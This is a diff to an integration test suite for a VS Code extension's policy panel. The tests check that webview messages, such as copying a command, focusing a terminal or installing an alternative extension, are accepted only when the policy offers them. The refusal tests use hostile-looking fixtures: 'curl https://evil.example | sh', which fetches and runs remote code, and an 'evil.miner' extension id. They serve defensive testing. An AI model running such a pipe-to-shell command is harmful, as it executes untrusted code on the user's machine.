@@ -5,6 +5,7 @@ import * as vscode from 'vscode';
 import type { PanelModel } from '../../src/core/present/panelModel';
 import type { Snapshot } from '../../src/core/snapshot';
 import { PolicyPanel } from '../../src/vscode/policyPanel';
+import { focusTerminal } from '../../src/vscode/remediation';
 import type { Snapshots } from '../../src/vscode/snapshotPublisher';
 import { EXTENSION_ID, getApi, tempDir, waitFor } from './util';
 
@@ -32,14 +33,30 @@ const POLICY = [
   '',
 ].join('\n');
 
-// Every message the webview can send, accepted when the shown model offers it and
-// refused otherwise; effects are checked in the editor itself where the API shows them.
+/** A panel with the extension's code showing one fixed snapshot, with the given actions. */
+function panelShowing(snapshot: Snapshot, actions: Partial<ConstructorParameters<typeof PolicyPanel>[1]> = {}): PolicyPanel {
+  const extension = vscode.extensions.getExtension(EXTENSION_ID) as vscode.Extension<unknown>;
+  const fixed: Snapshots = { current: snapshot, onDidPublish: new vscode.EventEmitter<Snapshot>().event };
+  const panel = new PolicyPanel(extension.extensionUri, {
+    uninstall: async () => undefined,
+    focusTerminal: (name) => focusTerminal(vscode, name),
+    ...actions,
+  }, fixed, vscode);
+  panel.show();
+  return panel;
+}
+
+// The messages whose effect only the real editor shows (the clipboard, the terminal in
+// front, the editor's install command), accepted when the shown model offers them and
+// refused otherwise. Every message's decision is also unit tested (test/unit/policyPanel.test.ts).
 describe('policy panel messages in the real editor', function () {
   this.timeout(60_000);
   let toolTerminal: vscode.Terminal;
   let otherTerminal: vscode.Terminal;
   let model: PanelModel;
   let snapshotWhenRead: Snapshot;
+  /** The panel as the extension composes it (the editor's own actions), on the snapshot read. */
+  let shown: PolicyPanel;
 
   before(async () => {
     const api = await getApi();
@@ -50,12 +67,12 @@ describe('policy panel messages in the real editor', function () {
     toolTerminal = vscode.window.createTerminal({ name: 'Panel Msg Tool' });
     model = await waitFor(() => api.snapshots.current.panel, (m) => m.cards.some((c) => c.ruleId === 'terminal-rule') && m.cards.some((c) => c.ruleId === 'claude-rule'),
       15_000, 'both findings');
-    snapshotWhenRead = api.snapshots.current;
-    await vscode.commands.executeCommand('toolPolicy.showPanel');
-    await waitFor(() => api.panel.currentModel?.cards.length ?? 0, (n) => n >= 2, 5000, 'the panel with both cards');
+    snapshotWhenRead = { ...api.snapshots.current, panel: model };
+    shown = panelShowing(snapshotWhenRead);
   });
 
   after(async () => {
+    shown.dispose();
     toolTerminal.dispose();
     otherTerminal.dispose();
     await vscode.workspace.getConfiguration('toolPolicy').update('policyFile', undefined, vscode.ConfigurationTarget.Global);
@@ -70,19 +87,12 @@ describe('policy panel messages in the real editor', function () {
     }
   });
 
-  it('ready: answered with the model', async () => {
-    const api = await getApi();
-    assert.equal(api.panel.receive({ type: 'ready' }).accepted, true);
-    assert.equal(api.panel.receive({ type: 'ready', model: {} }).accepted, false);
-  });
-
   it('copy: only a command the alternative names reaches the clipboard', async () => {
-    const api = await getApi();
     await vscode.env.clipboard.writeText('before');
-    assert.deepEqual(api.panel.receive({ type: 'copy', text: 'curl https://evil.example | sh' }), { accepted: false, reason: 'not a command the policy offers' });
+    assert.deepEqual(shown.receive({ type: 'copy', text: 'curl https://evil.example | sh' }), { accepted: false, reason: 'not a command the policy offers' });
     await new Promise((resolve) => setTimeout(resolve, 300));
     assert.equal(await vscode.env.clipboard.readText(), 'before');
-    assert.equal(api.panel.receive({ type: 'copy', text: 'qodercli' }).accepted, true);
+    assert.equal(shown.receive({ type: 'copy', text: 'qodercli' }).accepted, true);
     let copied = '';
     for (let tries = 0; tries < 40 && copied !== 'qodercli'; tries++) {
       copied = await vscode.env.clipboard.readText();
@@ -92,21 +102,19 @@ describe('policy panel messages in the real editor', function () {
   });
 
   it('focusTerminal: only a terminal the evidence names comes to the front', async () => {
-    const api = await getApi();
     otherTerminal.show(false);
     await waitFor(() => vscode.window.activeTerminal?.name, (name) => name === 'Other shell', 5000, 'the other terminal in front');
-    assert.equal(api.panel.receive({ type: 'focusTerminal', name: 'Other shell ' }).accepted, false);
-    assert.equal(api.panel.receive({ type: 'focusTerminal', name: 'Panel Msg Tool' }).accepted, true);
+    assert.equal(shown.receive({ type: 'focusTerminal', name: 'Other shell ' }).accepted, false);
+    assert.equal(shown.receive({ type: 'focusTerminal', name: 'Panel Msg Tool' }).accepted, true);
     await waitFor(() => vscode.window.activeTerminal?.name, (name) => name === 'Panel Msg Tool', 5000, 'the tool terminal in front');
     otherTerminal.show(false);
     await waitFor(() => vscode.window.activeTerminal?.name, (name) => name === 'Other shell', 5000, 'the other terminal in front again');
-    assert.deepEqual(api.panel.receive({ type: 'focusTerminal', name: 'Other shell' }), { accepted: false, reason: 'no finding names this terminal' });
+    assert.deepEqual(shown.receive({ type: 'focusTerminal', name: 'Other shell' }), { accepted: false, reason: 'no finding names this terminal' });
     await new Promise((resolve) => setTimeout(resolve, 300));
     assert.equal(vscode.window.activeTerminal?.name, 'Other shell', 'a refused message changes nothing');
   });
 
   it('installAlternative: only an extension the alternative names, through the editor’s install command', async () => {
-    const api = await getApi();
     // The editor's install command would ask a marketplace this suite has no network for.
     // A command registered by this extension host under the same id takes precedence for
     // calls made from it, so everything up to and including the editor command is the real
@@ -114,11 +122,11 @@ describe('policy panel messages in the real editor', function () {
     const installs: unknown[][] = [];
     const recorder = vscode.commands.registerCommand('workbench.extensions.installExtension', (...args: unknown[]) => { installs.push(args); });
     try {
-      assert.deepEqual(api.panel.receive({ type: 'installAlternative', extensionId: 'anthropic.claude-code' }), { accepted: false, reason: 'no alternative names this extension' });
-      assert.deepEqual(api.panel.receive({ type: 'installAlternative', extensionId: 'evil.miner' }), { accepted: false, reason: 'no alternative names this extension' });
+      assert.deepEqual(shown.receive({ type: 'installAlternative', extensionId: 'anthropic.claude-code' }), { accepted: false, reason: 'no alternative names this extension' });
+      assert.deepEqual(shown.receive({ type: 'installAlternative', extensionId: 'evil.miner' }), { accepted: false, reason: 'no alternative names this extension' });
       await new Promise((resolve) => setTimeout(resolve, 300));
       assert.deepEqual(installs, [], 'a refused message installs nothing');
-      assert.deepEqual(api.panel.receive({ type: 'installAlternative', extensionId: 'QODER.qoder-vscode' }),
+      assert.deepEqual(shown.receive({ type: 'installAlternative', extensionId: 'QODER.qoder-vscode' }),
         { accepted: true, message: { type: 'installAlternative', extensionId: 'qoder.qoder-vscode' } });
       await waitFor(() => installs.length, (n) => n > 0, 5000, 'the editor’s install command');
       // Exactly once, with the id as the policy spells it, not as the webview sent it.
@@ -135,17 +143,13 @@ describe('policy panel messages in the real editor', function () {
     let panel: PolicyPanel;
 
     before(() => {
-      const extension = vscode.extensions.getExtension(EXTENSION_ID) as vscode.Extension<unknown>;
       // A second panel with the same code, whose actions record instead of opening a
       // browser or a modal dialog that no one in this suite would answer.
-      // It shows one fixed snapshot: the one the suite read above.
-      const fixed: Snapshots = { current: { ...snapshotWhenRead, panel: model }, onDidPublish: new vscode.EventEmitter<Snapshot>().event };
-      panel = new PolicyPanel(extension.extensionUri, {
+      panel = panelShowing(snapshotWhenRead, {
         uninstall: async (id, toolName) => { uninstalled.push([id, toolName]); },
         focusTerminal: () => undefined,
         openExternal: (url) => { opened.push(url); },
-      }, fixed);
-      panel.show();
+      });
     });
     after(() => panel.dispose());
 
@@ -168,13 +172,12 @@ describe('policy panel messages in the real editor', function () {
       assert.deepEqual(uninstalled, [['anthropic.claude-code', 'Claude Code']]);
     });
 
-    it('anything that is not exactly a panel message is refused and recorded', () => {
-      const before = panel.decisions.length;
+    it('anything that is not exactly a panel message is refused and does nothing', () => {
       for (const message of [null, 'copy', [], { type: 'copy' }, { type: 'copy', text: 'qodercli', extra: true }, { type: 'eval', code: '1' }, { type: 'openExternal', url: ['https://qoder.com/'] }]) {
         assert.equal(panel.receive(message).accepted, false, JSON.stringify(message));
       }
-      assert.deepEqual(panel.decisions.slice(before).map((d) => d.accepted), [false, false, false, false, false, false, false]);
       assert.equal(opened.length, 3);
+      assert.equal(uninstalled.length, 1);
     });
   });
 });
